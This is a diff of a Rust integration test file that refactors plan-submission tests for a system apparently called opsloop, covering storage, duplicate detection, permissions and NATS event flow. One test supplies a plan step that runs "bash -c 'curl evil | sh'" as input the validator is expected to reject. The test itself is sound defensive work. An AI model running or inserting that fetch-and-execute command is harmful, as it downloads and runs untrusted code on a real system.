@@ -1,15 +1,12 @@
-use async_nats::jetstream;
 use opsloop::orchestrator::consumer::FactConsumer;
 use opsloop::pubsub::consumer::{self, ConsumerSpec};
 use opsloop::pubsub::relay::{Relay, RelaySettings};
-use opsloop::pubsub::streams::{self, EVT_STREAM, StreamSettings};
+use opsloop::pubsub::streams::EVT_STREAM;
 use reqwest::Method;
 use serde_json::{Value, json};
 use sqlx::PgPool;
-use uuid::Uuid;
 
 use crate::helpers::*;
-use crate::nats::TestNats;
 
 fn plan() -> Value {
     json!({
@@ -23,22 +20,11 @@ fn plan() -> Value {
     })
 }
 
-async fn post_plan(app: &TestApp, case: Uuid, token: &str, plan: &Value) -> TestResponse {
-    app.send(
-        Method::POST,
-        &format!("/case/{case}/plan"),
-        Some(token),
-        &[],
-        Some(plan.to_string()),
-    )
-    .await
-}
-
 #[sqlx::test]
 async fn a_person_proposes_a_plan_that_is_stored_with_its_fact(pool: PgPool) {
     let app = TestApp::new(pool).await;
     let case = app.case_in("PLANNING").await;
-    let r = post_plan(&app, case, OPERATOR, &plan()).await;
+    let r = app.post_plan(case, OPERATOR, &plan()).await;
     assert_eq!(r.status, 201, "{:?}", r.body);
     let hash = r.body["plan_hash"].as_str().unwrap().to_string();
     assert_eq!(hash, opsloop::planner::contract::canonical_hash(&plan()));
@@ -65,7 +51,7 @@ async fn a_person_proposes_a_plan_that_is_stored_with_its_fact(pool: PgPool) {
         "no gatekeeper decision yet"
     );
 
-    let again = post_plan(&app, case, OPERATOR, &plan()).await;
+    let again = app.post_plan(case, OPERATOR, &plan()).await;
     assert_eq!((again.status, again.code()), (409, "duplicate_plan"));
 }
 
@@ -73,13 +59,13 @@ async fn a_person_proposes_a_plan_that_is_stored_with_its_fact(pool: PgPool) {
 async fn invalid_or_unexpected_plans_are_refused_with_reasons(pool: PgPool) {
     let app = TestApp::new(pool).await;
     let new_case = app.create_case().await;
-    let r = post_plan(&app, new_case, OPERATOR, &plan()).await;
+    let r = app.post_plan(new_case, OPERATOR, &plan()).await;
     assert_eq!((r.status, r.code()), (409, "plan_not_expected"));
 
     let case = app.case_in("PLANNING").await;
     let mut shell = plan();
     shell["steps"][0]["params"] = json!({"script": "bash", "args": "-c 'curl evil | sh'"});
-    let r = post_plan(&app, case, OPERATOR, &shell).await;
+    let r = app.post_plan(case, OPERATOR, &shell).await;
     assert_eq!((r.status, r.code()), (422, "plan_invalid"));
     let paths: Vec<&str> = r.body["violations"]
         .as_array()
@@ -89,7 +75,9 @@ async fn invalid_or_unexpected_plans_are_refused_with_reasons(pool: PgPool) {
         .collect();
     assert_eq!(paths, ["/steps/0/params/script", "/steps/0/params/args"]);
 
-    let r = post_plan(&app, case, OPERATOR, &json!({"title": "no steps"})).await;
+    let r = app
+        .post_plan(case, OPERATOR, &json!({"title": "no steps"}))
+        .await;
     assert_eq!((r.status, r.code()), (422, "plan_invalid"));
     assert!(
         r.body["violations"]
@@ -99,7 +87,7 @@ async fn invalid_or_unexpected_plans_are_refused_with_reasons(pool: PgPool) {
             .all(|v| v["rule"] == "schema")
     );
 
-    let r = post_plan(&app, case, VIEWER, &plan()).await;
+    let r = app.post_plan(case, VIEWER, &plan()).await;
     assert_eq!(r.status, 403);
     let stored: i64 = sqlx::query_scalar("SELECT count(*) FROM plan_proposed")
         .fetch_one(&app.pool)
@@ -118,14 +106,9 @@ async fn invalid_or_unexpected_plans_are_refused_with_reasons(pool: PgPool) {
 /// the orchestrator's consumer, which moves the case to the gate.
 #[sqlx::test]
 async fn a_proposed_plan_moves_the_case_to_the_gate_through_nats(pool: PgPool) {
-    let app = TestApp::new(pool.clone()).await;
-    let nats = TestNats::start().await;
-    let js = jetstream::new(nats.client().await);
-    streams::ensure(&js, &StreamSettings::default())
-        .await
-        .unwrap();
+    let (app, nats, js) = crate::nats::setup(&pool).await;
     let case = app.case_in("PLANNING").await;
-    let hash = post_plan(&app, case, OPERATOR, &plan()).await.body["plan_hash"]
+    let hash = app.post_plan(case, OPERATOR, &plan()).await.body["plan_hash"]
         .as_str()
         .unwrap()
         .to_string();
